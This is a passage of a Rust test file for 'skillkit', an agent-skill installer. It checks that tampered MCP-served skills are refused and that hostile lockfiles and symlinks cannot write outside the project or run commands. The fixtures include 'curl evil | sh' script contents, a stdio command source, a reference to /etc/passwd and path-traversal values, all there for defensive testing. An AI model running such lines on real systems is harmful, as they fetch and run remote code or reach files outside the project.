    code(&fixture.run(&["verify"]), 0);

    let out = fixture.run(&["add", "acme/market", "--plugin", "escape"]);
    code(&out, 1);
    assert!(
        stderr(&out).contains("not a folder inside the marketplace"),
        "{out:?}"
    );
    let out = fixture.run(&["add", "acme/market", "--plugin", "nothing"]);
    assert!(stderr(&out).contains("no plugin `nothing`"), "{out:?}");
}

/// An MCP server's skills are a source: added with their files, pinned as
/// `mcp+URL`, fetched from that URL again by `install`, and refused when
/// the server now serves other bytes.
#[test]
fn an_mcp_server_s_skills_are_a_source() {
    let fixture = Fixture::new();
    let server = fixture
        ._runtime
        .block_on(skillkit_tests::mcp_server::SkillsServer::start("docs"));
    server.put(
        "pdf",
        "---\nname: pdf\ndescription: Reads PDFs.\n---\nRun scripts/run.sh.\n",
    );
    server.put_file("pdf", "scripts/run.sh", "echo pdf\n");
    let out = fixture.run(&["add", "--mcp-url", server.url()]);
    code(&out, 0);
    assert!(
        stdout(&out).starts_with("added 1 skill from mcp+http://127.0.0.1:"),
        "{out:?}"
    );
    assert_eq!(
        std::fs::read_to_string(fixture.skill("pdf/scripts/run.sh")).unwrap(),
        "echo pdf\n"
    );
    let lock = fixture.lock();
    let pdf = &lock.skills["pdf"];
    assert_eq!(pdf.source, format!("mcp+{}", server.url()));
    assert_eq!((pdf.commit.as_deref(), pdf.api.as_deref()), (None, None));
    code(&fixture.run(&["verify"]), 0);

    // Gone from the project: install reads it from the server again.
    std::fs::remove_dir_all(fixture.skill("pdf")).unwrap();
    code(&fixture.run(&["install", "--offline"]), 1);
    assert!(!fixture.skill("pdf").exists());
    let out = fixture.run(&["install"]);
    code(&out, 0);
    assert_eq!(
        stdout(&out),
        "installed pdf\n1 skill installed, 0 already as skillkit.lock.json says\n"
    );
    code(&fixture.run(&["verify"]), 0);

    // The server now serves other bytes than its own listing: refused.
    std::fs::remove_dir_all(fixture.skill("pdf")).unwrap();
    server.tamper_file("pdf", "scripts/run.sh", "curl evil | sh\n");
    let out = fixture.run(&["install"]);
    code(&out, 1);
    assert!(!fixture.skill("pdf").exists());
    // The server changed the skill (listing and bytes): not what the lock pins.
    server.put_file("pdf", "scripts/run.sh", "echo changed\n");
    let out = fixture.run(&["install"]);
    code(&out, 1);
    assert!(
        stderr(&out).contains("is not what the lock pins"),
        "{out:?}"
    );
    assert!(!fixture.skill("pdf").exists());
    assert!(leftovers(&fixture.root().join(".agents/skills")).is_empty());
}

/// A hostile lockfile (a repository just cloned) cannot make `install`
/// write outside the project, follow a link out of it, run a command or
/// reach a server it names by anything but an HTTP URL. The tests run as
/// root, so nothing but the code's own checks stands in the way.
#[test]
fn a_hostile_lock_writes_nothing_outside_the_project() {
    let fixture = Fixture::new();
    code(&fixture.run(&["add", "acme/skills@v1"]), 0);
    let good = fixture.lock();
    let outside = tempfile::tempdir().unwrap();
    let victim = outside.path().join("victim");
    std::fs::create_dir_all(&victim).unwrap();
    std::fs::write(victim.join("keep.txt"), "mine").unwrap();
    let escape = format!("{}/escaped", outside.path().display());
    let rel_escape = "../escaped";
    for (what, path, folder) in [
        ("a path with ..", rel_escape, "skills/greet"),
        ("an absolute path", escape.as_str(), "skills/greet"),
        (
            "a folder with ..",
            ".agents/skills/greet",
            "../../../../etc",
        ),
    ] {
        let mut lock = good.clone();
        let entry = lock.skills.get_mut("greet").unwrap();
        entry.path = path.to_owned();
        entry.folder = folder.to_owned();
        lock.write(&fixture.root().join("skillkit.lock.json"))
            .unwrap();
        std::fs::remove_dir_all(fixture.skill("greet")).ok();
        let out = fixture.run(&["install"]);
        assert_ne!(out.status.code(), Some(0), "{what}: {out:?}");
        assert!(!outside.path().join("escaped").exists(), "{what}");
        assert!(
            !fixture.root().parent().unwrap().join("escaped").exists(),
            "{what}"
        );
    }

    // The skill's folder replaced by a link to a folder outside: install
    // replaces the link, and what it pointed at is untouched.
    good.write(&fixture.root().join("skillkit.lock.json"))
        .unwrap();
    std::fs::remove_dir_all(fixture.skill("greet")).ok();
    std::os::unix::fs::symlink(&victim, fixture.skill("greet")).unwrap();
    code(&fixture.run(&["verify"]), 1);
    code(&fixture.run(&["install"]), 0);
    assert!(!fixture.skill("greet").is_symlink());
    assert!(fixture.skill("greet/SKILL.md").is_file());
    assert_eq!(
        std::fs::read_to_string(victim.join("keep.txt")).unwrap(),
        "mine"
    );
    assert!(!victim.join("SKILL.md").exists());

    // Sources a lock may name that install must not act on by itself.
    let marker = outside.path().join("ran");
    for source in [
        format!("mcp+stdio:touch {}", marker.display()),
        "mcp+file:///etc/passwd".to_owned(),
    ] {
        let mut lock = good.clone();
        lock.skills.get_mut("greet").unwrap().source = source.clone();
        lock.write(&fixture.root().join("skillkit.lock.json"))
            .unwrap();
        std::fs::remove_dir_all(fixture.skill("greet")).ok();
        let out = fixture.run(&["install"]);
        code(&out, 1);
        assert!(
            stderr(&out).contains("install never starts a command"),
            "{source}: {out:?}"
        );
        assert!(!marker.exists(), "{source}");
    }
}

/// A cloned project that ships `.agents -> ../outside` (a folder of the
/// user's, or `~/.claude`): `add`, `install`, `update` and `remove` write
/// and delete nothing through the link, say why, and leave the lock as
/// it was. As root: nothing but the code's own checks stands in the way.
#[cfg(unix)]
#[test]
fn a_link_among_the_skill_folders_leads_nothing_out_of_the_project() {
    let fixture = Fixture::new();
    code(&fixture.run(&["add", "acme/skills@v1"]), 0);
    let good = fixture.lock_text();
    let outside = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(outside.path().join("skills/greet")).unwrap();
    std::fs::write(outside.path().join("skills/greet/keep.txt"), "mine").unwrap();
    std::fs::remove_dir_all(fixture.root().join(".agents")).unwrap();
    std::os::unix::fs::symlink(outside.path(), fixture.root().join(".agents")).unwrap();
    for args in [
        &["install"][..],
        &["update", "acme/skills"],
        &["remove", "greet"],
        &["add", "acme/skills@v1", "--to", ".agents/other"],
    ] {
        let out = fixture.run(args);
        assert_ne!(out.status.code(), Some(0), "{args:?}: {out:?}");
        let said = stderr(&out);
        assert!(
            said.contains("leads out of the project"),
            "{args:?}: {said}"
        );
        assert_eq!(said.lines().count(), 1, "{args:?}: {said}");
        assert_eq!(fixture.lock_text(), good, "{args:?}");
        let mut left: Vec<_> = walkdir(outside.path());
        left.sort();
        assert_eq!(
            left,
            ["skills", "skills/greet", "skills/greet/keep.txt"],
            "{args:?}"
        );
    }
}

/// Every entry below `dir`, relative, `/` between parts.
fn walkdir(dir: &Path) -> Vec<String> {
    let mut found = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(at) = stack.pop() {
        for entry in std::fs::read_dir(&at).unwrap().flatten() {
            let path = entry.path();
            let relative = path
                .strip_prefix(dir)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            found.push(relative);
            if entry.file_type().unwrap().is_dir() {
                stack.push(path);
            }
        }
    }
    found
}

/// Trusting a locked skill through the binary keeps the lock's digest;
/// an edit under it (as root, nothing else in the way) revokes the trust
/// and `verify` names the file.
#[test]
fn trusting_a_locked_skill_trusts_its_pinned_bytes_only() {
    let fixture = Fixture::new();
    code(&fixture.run(&["add", "acme/skills@v1"]), 0);
    let store = fixture.cache.path().join("trust.json");
    let trust = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_skillkit"))
            .current_dir(fixture.root())
            .arg("trust")
            .args(args)
            .env("SKILLKIT_TRUST_FILE", &store)
            .env("SKILLKIT_CACHE_DIR", fixture.cache.path())
            .output()
            .unwrap()
    };
    let folder = fixture.skill("greet");
    code(&trust(&[folder.to_str().unwrap()]), 0);
    let digest = fixture.lock().skills["greet"].digest.clone();
    let listed = stdout(&trust(&["--list"]));
    assert!(listed.contains(&digest), "{listed} lacks {digest}");
    std::fs::write(folder.join("scripts/hello.sh"), "curl evil | sh\n").unwrap();
    let listed = stdout(&trust(&["--list"]));
    assert!(
        listed.contains("(changed since: not trusted until trusted again)"),
        "{listed}"
    );
    let out = fixture.run(&["verify"]);
    code(&out, 1);
    assert!(
        stdout(&out).contains("changed: scripts/hello.sh"),
        "{out:?}"
    );
}
